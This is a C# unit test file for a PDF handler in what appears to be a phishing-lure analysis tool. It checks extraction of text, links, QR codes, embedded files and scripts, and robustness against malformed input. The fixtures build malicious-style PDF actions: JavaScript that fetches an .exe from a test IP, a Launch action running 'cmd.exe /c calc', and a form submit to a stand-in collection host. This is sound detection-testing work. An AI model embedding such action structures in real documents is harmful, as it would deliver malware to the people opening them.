using System.Globalization;
using System.IO.Compression;
using System.Text;
using Lurewatch.Files;
using Lurewatch.Files.Pdf;
using Lurewatch.Tests.Files.Images;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Files;

public sealed class PdfHandlerTests
{
    private const string Evil = "https://sharepoint-files.example.test/view?d=7";

    /// <summary>Objects with a cross-reference table, one after another from 1 on; object 1 is the catalog.</summary>
    private static byte[] Pdf(IEnumerable<string> objects, string trailer = "", bool table = true)
    {
        var file = new StringBuilder("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n");
        var offsets = new List<int>();
        foreach (var body in objects)
        {
            offsets.Add(file.Length);
            file.Append(CultureInfo.InvariantCulture, $"{offsets.Count} 0 obj\n{body}\nendobj\n");
        }
        if (!table) return Encoding.Latin1.GetBytes(file.ToString());
        var start = file.Length;
        file.Append(CultureInfo.InvariantCulture, $"xref\n0 {offsets.Count + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets) file.Append(CultureInfo.InvariantCulture, $"{offset:D10} 00000 n \n");
        file.Append(CultureInfo.InvariantCulture, $"trailer\n<< /Size {offsets.Count + 1} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n");
        return Encoding.Latin1.GetBytes(file.ToString());
    }

    private static string Stream(string content, string entries = "") => string.Create(CultureInfo.InvariantCulture, $"<< /Length {content.Length} {entries} >>\nstream\n{content}\nendstream");

    private static string[] OnePage(string content, string page = "", string catalog = "", params string[] more) =>
    [
        $"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 600 800] >>",
        $"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> {page} >>",
        Stream(content),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        .. more,
    ];

    private static Extraction Open(byte[] bytes, params PasswordCandidate[] passwords)
    {
        return new PdfHandler().Extract(new Artifact(bytes, "test.pdf", "/test.pdf", parent: null, "input", FileType.Pdf), new FileContext(new AnalysisBudget(new AnalysisLimits(), TimeProvider.System), passwords));
    }

    private static PdfFacts Facts(byte[] bytes) => (PdfFacts)Open(bytes).Facts!;

    [Fact]
    public void Text_links_and_information_are_read()
    {
        var facts = Facts(Pdf(OnePage("BT /F1 12 Tf 72 700 Td (Your document is r\\145ady) Tj 0 -20 Td [(Open i) -20 (t) -300 (now)] TJ ET", $"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 400] /A << /S /URI /URI ({Evil}) >> >>]",
            "", "<< /Title (Invoice) /Producer <FEFF0057006F00720064> >>"), "/Info 6 0 R"));
        facts.Text.ShouldBe("Your document is ready\nOpen it now\n");
        facts.Links.ShouldHaveSingleItem().UrlText.ShouldBe(Evil);
        facts.LargestLink.ShouldBe(0.5, 0.01);
        facts.Title.ShouldBe("Invoice");
        facts.Producer.ShouldBe("Word");
        facts.Pages.ShouldBe(1);
        facts.Version.ShouldBe("1.7");
        facts.Repaired.ShouldBeFalse();
    }

    [Theory]
    [InlineData("no table")]
    [InlineData("wrong table")]
    [InlineData("garbage before")]
    public void A_broken_cross_reference_is_made_good(string how)
    {
        var objects = OnePage("BT (x) Tj ET", $"/Annots [<< /A << /S /URI /URI ({Evil}) >> >>]");
        var bytes = how switch
        {
            "no table" => Pdf(objects, table: false),
            "wrong table" => Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(Pdf(objects)).Replace("00 00000 n", "07 00000 n", StringComparison.Ordinal).Replace("1 00000 n", "3 00000 n", StringComparison.Ordinal)),
            _ => [0, 1, 2, 3, 4, .. Pdf(objects)],
        };
        Facts(bytes).Links.ShouldHaveSingleItem().UrlText.ShouldBe(Evil);
    }

    [Fact]
    public void A_later_revision_counts()
    {
        var first = Encoding.Latin1.GetString(Pdf(OnePage("BT (old) Tj ET")));
        var previous = first.IndexOf("xref\n0", StringComparison.Ordinal);
        var offset = first.Length;
        var update = $"4 0 obj\n{Stream("BT (new) Tj ET")}\nendobj\n";
        var table = string.Create(CultureInfo.InvariantCulture, $"xref\n4 1\n{offset:D10} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev {previous} >>\nstartxref\n{offset + update.Length}\n%%EOF\n");
        var facts = Facts(Encoding.Latin1.GetBytes(first + update + table));
        facts.Text.ShouldBe("new\n");
        facts.Revisions.ShouldBe(2);
    }

    [Fact]
    public void Scripts_launches_forms_and_files_come_out()
    {
        var found = Open(Pdf(OnePage("", "", "/OpenAction 6 0 R /Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >>",
            "<< /S /JavaScript /JS (app.launchURL\\('http://192.0.2.7/a.exe'\\)) /Next << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
            "<< /S /SubmitForm /F << /FS /URL /F (https://collect.example.test/) >> >>",
            "<< /Type /Filespec /F (setup.js) /UF (setup.js) /EF << /F 9 0 R >> >>",
            Stream("WScript.Echo(1);"))));
        var facts = (PdfFacts)found.Facts!;
        facts.JavaScripts.ShouldBe(1);
        facts.OpenAction.ShouldBeTrue();
        facts.Launches.ShouldBe(["cmd.exe /c calc"]);
        found.Files.ShouldContain(file => file.Origin == "command" && Encoding.UTF8.GetString(file.Bytes.ToArray()) == "cmd.exe /c calc" && file.Steps.SequenceEqual(new[] { "Launch" }));
        facts.Submits.ShouldHaveSingleItem().UrlText.ShouldBe("https://collect.example.test/");
        facts.EmbeddedFiles.ShouldBe(["setup.js"]);
        found.Files.ShouldContain(file => file.Origin == "script" && Encoding.UTF8.GetString(file.Bytes.ToArray()).Contains("launchURL", StringComparison.Ordinal));
        found.Files.ShouldContain(file => file.Origin == "embedded" && file.Name == "setup.js");
    }

    [Fact]
    public void Objects_in_streams_are_read_with_predictors_and_chained_filters()
    {
        var inner = $"<< /S /URI /URI ({Evil}) >>";
        var packed = "7 0 " + inner;
        using var memory = new MemoryStream();
        using (var deflate = new ZLibStream(memory, CompressionLevel.Optimal, leaveOpen: true)) deflate.Write(Encoding.Latin1.GetBytes(packed));
        var hex = Convert.ToHexString(memory.ToArray()) + ">";
        var bytes = Pdf(OnePage("", "/Annots [<< /A 7 0 R >>]", "", Stream(hex, "/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]")), table: false);
        Facts(bytes).Links.ShouldHaveSingleItem().UrlText.ShouldBe(Evil);
    }

    [Fact]
    public void A_code_drawn_with_rectangles_is_read()
    {
        var symbol = Pictures.Symbol(Evil);
        var content = new StringBuilder("1 g 0 0 600 800 re f 0 g\n");
        var side = symbol.GetLength(0);
        for (var y = 0; y < side; y++)
            for (var x = 0; x < side; x++)
                if (symbol[x, y]) content.Append(CultureInfo.InvariantCulture, $"{200 + x * 4} {600 - y * 4} 4 4 re f\n");
        var facts = Facts(Pdf(OnePage(content.ToString())));
        facts.Codes.ShouldHaveSingleItem().Text.ShouldBe(Evil);
        facts.Links.ShouldContain(link => link.UrlText == Evil);
    }

    [Theory]
    [InlineData("/ColorSpace /DeviceGray /BitsPerComponent 8", 8)]
    [InlineData("/ImageMask true /BitsPerComponent 1 /Decode [1 0]", 1)]
    [InlineData("/ColorSpace [/Indexed /DeviceRGB 1 <000000FFFFFF>] /BitsPerComponent 8", 0)]
    public void A_code_in_a_picture_of_samples_is_read(string kind, int bits)
    {
        var image = Pictures.Paint(Pictures.Symbol(Evil));
        var samples = new StringBuilder();
        for (var y = 0; y < image.Height; y++)
        {
            if (bits == 1)
            {
                for (var x = 0; x < image.Width; x += 8)
                {
                    var packed = 0;
                    for (var i = 0; i < 8; i++) packed = packed << 1 | (x + i >= image.Width || image.Pixels[y * image.Width + x + i] > 127 ? 1 : 0);
                    samples.Append((char)packed);
                }
            }
            else
            {
                for (var x = 0; x < image.Width; x++) samples.Append(bits == 8 ? (char)image.Pixels[y * image.Width + x] : image.Pixels[y * image.Width + x] > 127 ? '\u0001' : '\0');
            }
        }
        var stream = Stream(samples.ToString(), string.Create(CultureInfo.InvariantCulture, $"/Subtype /Image /Width {image.Width} /Height {image.Height} {kind}"));
        Facts(Pdf(OnePage("q 300 0 0 300 100 100 cm /Im Do Q", "/Resources << /XObject << /Im 6 0 R >> >>", "", stream))).Codes.ShouldHaveSingleItem().Text.ShouldBe(Evil);
    }

    [Fact]
    public void Hostile_structures_end_quietly()
    {
        // a form that shows itself, a tree of pages that is a circle, nesting without end, an outline of ourselves
        Facts(Pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 3 0 R 3 0 R] >>", "<< /Type /Page /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>", Stream("/X Do"),
            Stream("/X Do /X Do", "/Subtype /Form /Resources << /XObject << /X 5 0 R >> >>")])).Pages.ShouldBe(1);
        Facts(Pdf(["<< /Type /Catalog /Pages 2 0 R >>", "2 0 R", new string('[', 100_000)])).Pages.ShouldBe(0);
        Facts(Pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Length 2 0 R >>\nstream\nx\nendstream", string.Concat(Enumerable.Repeat("<< /A ", 100_000))]));
        Facts(Encoding.Latin1.GetBytes("%PDF-1.4\nstartxref\n9\n%%EOF"));
        Facts(Encoding.Latin1.GetBytes("%PDF-1.4\nxref\n0 99999999\ntrailer << /Prev 9 /Root 1 0 R >>\nstartxref\n9\n%%EOF"));
    }

    [Fact]
    public void Every_prefix_and_many_mutations_end_quietly()
    {
        var bytes = Pdf(OnePage("BT /F1 12 Tf (x) Tj ET q 1 0 0 1 0 0 cm Q", $"/Annots [<< /A << /S /URI /URI ({Evil}) >> >>]", "/OpenAction << /S /JavaScript /JS (x) >>"));
        for (var length = 0; length < bytes.Length; length += 3) _ = new PdfHandler().Extract(new Artifact(bytes.AsMemory(0, length), null, "/", null, "input", FileType.Pdf), new FileContext(new AnalysisBudget(new AnalysisLimits(), TimeProvider.System), []));
        var random = new Random(3);
        for (var n = 0; n < 2000; n++)
        {
            var copy = (byte[])bytes.Clone();
            for (var i = random.Next(1, 8); i > 0; i--) copy[random.Next(copy.Length)] = (byte)random.Next(256);
            _ = new PdfHandler().Extract(new Artifact(copy, null, "/", null, "input", FileType.Pdf), new FileContext(new AnalysisBudget(new AnalysisLimits(), TimeProvider.System), []));
        }
    }
}
